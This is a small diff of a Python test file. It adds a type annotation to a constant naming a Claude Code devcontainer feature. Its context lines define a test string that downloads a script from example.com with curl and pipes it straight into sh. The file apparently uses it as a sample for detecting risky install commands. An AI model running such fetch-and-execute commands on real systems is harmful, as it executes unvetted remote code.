@@ -10,7 +10,7 @@ import pytest
 from trees import judged
 
 LINE = "curl -fsSL https://example.com/i.sh | sh"
-AGENT = {"ghcr.io/anthropics/devcontainer-features/claude-code:1": {}}
+AGENT: dict[str, object] = {"ghcr.io/anthropics/devcontainer-features/claude-code:1": {}}
 
 
 def found(**keys: Any) -> list[str]:
